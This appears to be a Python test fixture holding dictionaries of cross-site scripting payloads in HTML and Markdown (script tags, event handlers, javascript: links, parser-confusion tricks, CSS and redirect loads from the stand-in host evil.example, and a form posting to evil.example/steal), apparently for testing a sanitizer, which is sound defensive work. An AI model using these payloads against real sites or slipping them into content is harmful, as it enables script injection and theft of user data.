# ruff: noqa: E501  (attacks read best as the lines a student would write)
"""Text and markup that would do something where it is shown without care. Each calls `pwned()` or asks for `evil.example` if it lives."""

from __future__ import annotations

EVIL = "https://evil.example"

MARKUP = {
    "script": "<script>pwned()</script>",
    "script-source": f"<script src='{EVIL}/x.js'></script>",
    "script-in-svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>pwned()</script><circle r='9' onload='pwned()'/></svg>",
    "image-error": "<img src=x onerror=pwned()>",
    "image-pixel": f"<img src='{EVIL}/pixel.png' srcset='{EVIL}/pixel2.png 2x'>",
    "svg-load": "<svg onload=pwned()>",
    "svg-animate": "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
    "link": "<a href='javascript:pwned()' id=q1 class=score autofocus onfocus=pwned()>click</a>",
    "link-hidden": "<a href='jav&#x09;ascript:pwned()'>click</a><a href=' &#14; javascript:pwned()'>click</a>",
    "frame": "<iframe src='javascript:pwned()'></iframe>",
    "frame-document": "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "frame-data": "<iframe src='data:text/html,<script>parent.pwned()</script>'></iframe><object data='data:text/html,<script>pwned()</script>'></object>",
    "embed": f"<embed src='{EVIL}/x.swf'><object data='{EVIL}/x'></object><applet code=x></applet>",
    "refresh": f"<meta http-equiv='refresh' content='0;url={EVIL}/refresh'>",
    "base": f"<base href='{EVIL}/'><a href='x'>relative</a>",
    "style": f"<style>@import '{EVIL}/x.css'; body {{ background: url({EVIL}/bg.png) }}</style><link rel=stylesheet href='{EVIL}/y.css'>",
    "style-attribute": f"<div style=\"position:fixed;inset:0;background:url('{EVIL}/cover.png');z-index:9999\">cover</div>",
    "form": f"<form action='{EVIL}/steal'><input name=x autofocus onfocus=pwned()><button formaction='javascript:pwned()'>Full credit</button></form>",
    "details": "<details open ontoggle=pwned()><summary>x</summary></details>",
    "media": f"<video src='{EVIL}/v.mp4' onloadstart=pwned()><source onerror=pwned() src=x></video><audio src=x onerror=pwned()></audio>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=pwned()>'></noscript>",
    "template": "<template><img src=x onerror=pwned()></template><xmp><img title='</xmp><img src=x onerror=pwned()>'></xmp>",
    "closes-the-page": "</pre></div></textarea></title></script></style></body></html><script>pwned()</script>",
    "comment": "<!--><script>pwned()</script--><script>pwned()</script><!-- --!><img src=x onerror=pwned()>",
    "quotes": "\"><img src=x onerror=pwned()>' onmouseover='pwned()' x=\"",
    "broken-tag": "<img src=x onerror=pwned()//<b <i <script>pwned()",
    "capitals": "<ScRiPt>pwned()</sCrIpT><IMG SRC=x OnErRoR=pwned()>",
    "nul": "<scr\x00ipt>pwned()</script><img src=x one\x00rror=pwned()>",
    "handlers": "<p onclick=pwned() onmouseover=pwned() onpointerenter=pwned() style='font-size:900px'>over me</p><body onload=pwned()>",
}
"""HTML."""

MARKDOWN = {
    "link": "[click](javascript:pwned())",
    "link-entities": "[click](&#106;avascript:pwned()) [b](java\\script:pwned()) [c](<javascript:pwned()>)",
    "link-blanks": "[click]( javascript:pwned()) [click](\tjavascript:pwned() 'title')",
    "link-data": "[click](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+) [v](vbscript:pwned())",
    "reference": "[click][a] and [a]\n\n[a]: javascript:pwned()\n",
    "reference-in-list": "* [click][b]\n\n  [b]: <javascript:pwned()> 'x'\n\n> [c]: &#x6A;avascript:pwned()\n\n[c]",
    "autolink": "<javascript:pwned()> <https://evil.example/auto>",
    "image": "![pixel](https://evil.example/md.png) ![x](//evil.example/md2.png) ![y](/logout)",
    "image-reference": "![pixel][p]\n\n[p]: https://evil.example/ref.png",
    "image-quotes": '![x](x"onerror="pwned()) ![" onerror="pwned()](x) ![x](x \'" onerror="pwned()\')',
    "attachment-missing": "![x](attachment:none.png)",
    "fence": "```html\n<script>pwned()</script>\n```",
    "mermaid": '```mermaid\ngraph TD; A["<img src=x onerror=pwned()>"] --> B\nclick A "javascript:pwned()"\n```',
    "mermaid-hidden": "~~~ &#109;ermaid\n<img src=x onerror=pwned()>\n~~~",
    "latex": "$\\href{javascript:pwned()}{click}$ $$\\class{score}{x}\\style{position:fixed}{y}\\cssId{q1}{z}$$",
    "latex-markup": "$$<img src=x onerror=pwned()>$$ \\begin{x}<script>pwned()</script>\\end{x} $a<b>c</b>$",
    "html-in-table": "| a | b |\n|---|---|\n| <img src=x onerror=pwned()> | [x](javascript:pwned()) |",
    "html-over-lines": "<img\nsrc=x\nonerror=pwned()\n>\n\n<div\n\nonclick=pwned()>",
    "task-list": "- [ ] <script>pwned()</script>\n- [x] [x](javascript:pwned())",
    "files-prefix": "<img src='files/x' onerror=pwned()> [x](files/../../x)",
}
"""Markdown."""
